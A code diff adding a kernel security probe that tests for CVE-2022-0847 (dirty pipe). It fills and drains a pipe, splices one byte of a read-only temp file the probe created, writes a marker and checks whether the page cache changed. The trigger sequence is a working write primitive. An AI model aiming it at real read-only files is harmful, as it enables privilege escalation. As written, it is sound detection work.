@@ -1,8 +1,173 @@
-// TODO(helper): security probe family; see probe/families.hpp.
+// Security regressions on the splice path, tested by behaviour on objects the
+// probe owns: never by kernel version, never on a file it did not create.
 #include "probe/families.hpp"
+
+#include "core/errno_name.hpp"
+#include "core/page_buffer.hpp"
+#include "core/sys_result.hpp"
+#include "core/syscalls.hpp"
+
+#include <fcntl.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <optional>
+#include <string>
+#include <string_view>
+#include <vector>
 
 namespace zc::probe {
 
-void add_security_probes(std::vector<Spec>& /*out*/) {}
+namespace {
+
+// Removes the probe's temp file on every path out of the probe.
+class UnlinkGuard {
+public:
+    explicit UnlinkGuard(std::string path) : path_(std::move(path)) {}
+    UnlinkGuard(const UnlinkGuard&) = delete;
+    UnlinkGuard& operator=(const UnlinkGuard&) = delete;
+    ~UnlinkGuard() { ::unlink(path_.c_str()); }
+
+private:
+    std::string path_;
+};
+
+// A call that fails here says nothing about the bug: "unsupported" would
+// read as "affected", so only policy refusals keep their own verdict.
+Result inconclusive(const Context& ctx, std::string_view what, int err)
+{
+    if (classify_errno(err) == Status::blocked) return from_errno(ctx, what, err);
+    Result r = failed(std::string(what) + " failed: " + errno_text(err) + "; cannot test for dirty pipe");
+    r.err = err;
+    return r;
+}
+
+SysResult write_all(int fd, const uint8_t* data, size_t len)
+{
+    size_t done = 0;
+    while (done < len) {
+        const SysResult r = sys_result(::write(fd, data + done, len - done));
+        if (!r.ok()) {
+            if (r.err == EINTR) continue;
+            return r;
+        }
+        done += static_cast<size_t>(r.value);
+    }
+    return SysResult{static_cast<long>(done), 0};
+}
+
+// Every slot of the pipe's ring gets a buffer from an anonymous write (which
+// carries PIPE_BUF_FLAG_CAN_MERGE) and is released again. A kernel that does
+// not reset flags for a new pipe_buffer leaves that flag on the next one.
+SysResult fill_and_drain(const Pipe& pipe)
+{
+    const SysResult size = sys::fcntl(pipe.write.get(), F_GETPIPE_SZ, 0);
+    if (!size.ok()) return size;
+    std::vector<uint8_t> chunk(page_size(), 'P');
+    for (long left = size.value; left > 0;) {
+        const size_t n = std::min(static_cast<size_t>(left), chunk.size());
+        const SysResult w = sys_result(::write(pipe.write.get(), chunk.data(), n));
+        if (!w.ok()) {
+            if (w.err == EINTR) continue;
+            if (w.err == EAGAIN) break; // full: every slot is in use
+            return w;
+        }
+        left -= w.value;
+    }
+    for (;;) {
+        const SysResult r = sys_result(::read(pipe.read.get(), chunk.data(), chunk.size()));
+        if (!r.ok()) {
+            if (r.err == EINTR) continue;
+            if (r.err == EAGAIN) return SysResult{0, 0};
+            return r;
+        }
+        if (r.value == 0) return SysResult{0, 0};
+    }
+}
+
+// 9d2231c5d74e "lib/iov_iter: initialize "flags" in new pipe_buffer" fixed
+// CVE-2022-0847 (5.17, 5.16.11, 5.15.25, 5.10.102); f6dd975583bd "pipe: merge
+// anon_pipe_buf*_ops" (5.8) made the stale flag allow merging. Splicing one
+// byte of a read-only file puts its page-cache page into such a slot, and a
+// following write() into the pipe then lands in the page cache.
+Result run_dirty_pipe(const Context& ctx)
+{
+    constexpr loff_t splice_offset = 100;
+    static constexpr std::string_view marker = "ZCPROBE";
+    const size_t file_len = 2 * page_size();
+    const std::string path = ctx.tmpdir + "/dirty_pipe_probe";
+    const std::vector<uint8_t> content(file_len, 'A');
+
+    nlohmann::json ev = {{"vulnerable", nullptr}, {"offset", splice_offset}, {"file_bytes_changed", nullptr}};
+    Fd w;
+    if (const SysResult r = sys::open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL, w, 0600); !r.ok()) {
+        return inconclusive(ctx, "open(O_CREAT) of the probe's temp file under " + ctx.tmpdir, r.err);
+    }
+    const UnlinkGuard unlink_on_exit(path);
+    if (const SysResult r = write_all(w.get(), content.data(), content.size()); !r.ok()) {
+        return inconclusive(ctx, "write() of the probe's temp file", r.err);
+    }
+    w.reset();
+
+    Fd ro;
+    if (const SysResult r = sys::open(path.c_str(), O_RDONLY, ro); !r.ok()) {
+        return inconclusive(ctx, "open(O_RDONLY) of the probe's temp file", r.err);
+    }
+    Pipe pipe;
+    if (const SysResult r = sys::pipe(pipe, O_NONBLOCK); !r.ok()) return inconclusive(ctx, "pipe2()", r.err);
+    if (const SysResult r = fill_and_drain(pipe); !r.ok()) {
+        return inconclusive(ctx, "filling and draining the pipe", r.err);
+    }
+    loff_t off = splice_offset;
+    const SysResult sp = sys::splice(ro.get(), &off, pipe.write.get(), nullptr, 1, 0);
+    if (!sp.ok()) return inconclusive(ctx, "splice of 1 byte from the read-only temp file into a pipe", sp.err);
+    if (sp.value != 1) return failed("splice from the read-only temp file into a pipe moved no byte; cannot test");
+    const SysResult wr = sys_result(::write(pipe.write.get(), marker.data(), marker.size()));
+    if (!wr.ok()) return inconclusive(ctx, "write() into the pipe after the splice", wr.err);
+
+    // A fresh descriptor reads the shared page cache, not anything cached in ours.
+    Fd check;
+    if (const SysResult r = sys::open(path.c_str(), O_RDONLY, check); !r.ok()) {
+        return inconclusive(ctx, "reopening the probe's temp file", r.err);
+    }
+    std::vector<uint8_t> now(file_len);
+    const SysResult rd = sys_result(::pread(check.get(), now.data(), now.size(), 0));
+    if (!rd.ok()) return inconclusive(ctx, "pread() of the probe's temp file", rd.err);
+    if (static_cast<size_t>(rd.value) != file_len) {
+        return failed("pread() of the probe's temp file returned " + std::to_string(rd.value) + " of " +
+                      std::to_string(file_len) + " bytes; cannot test");
+    }
+    const auto changed = static_cast<size_t>(std::count_if(now.begin(), now.end(), [](uint8_t b) { return b != 'A'; }));
+    ev["file_bytes_changed"] = changed;
+    ev["vulnerable"] = changed != 0;
+    if (changed != 0) {
+        return unsupported("a write() into a pipe after splicing 1 byte of a read-only temp file changed " +
+                               std::to_string(changed) + " bytes of that file from offset " +
+                               std::to_string(splice_offset + 1) + "; kernel is affected by CVE-2022-0847 (dirty pipe)",
+                           std::move(ev));
+    }
+    return supported("a write() into a pipe after splicing 1 byte of a read-only temp file left the file unchanged; "
+                     "kernel is not affected by CVE-2022-0847 (dirty pipe)",
+                     std::move(ev));
+}
+
+} // namespace
+
+void add_security_probes(std::vector<Spec>& out)
+{
+    // Fix: 9d2231c5d74e "lib/iov_iter: initialize "flags" in new pipe_buffer"
+    // (5.17; stable 5.16.11, 5.15.25, 5.10.102). Exposed by f6dd975583bd
+    // "pipe: merge anon_pipe_buf*_ops" (5.8).
+    out.push_back(Spec{
+        .id = "security.cve_2022_0847",
+        .section = "security",
+        .title = "protected against CVE-2022-0847 (dirty pipe)",
+        .supported_means = "a pipe write after splicing from a read-only file does not modify that file's page cache",
+        .capabilities = {},
+        .introduced = {"5.17", "9d2231c5d74e", "lib/iov_iter: initialize \"flags\" in new pipe_buffer"},
+        .needs_netns = false,
+        .run = run_dirty_pipe,
+    });
+}
 
 } // namespace zc::probe
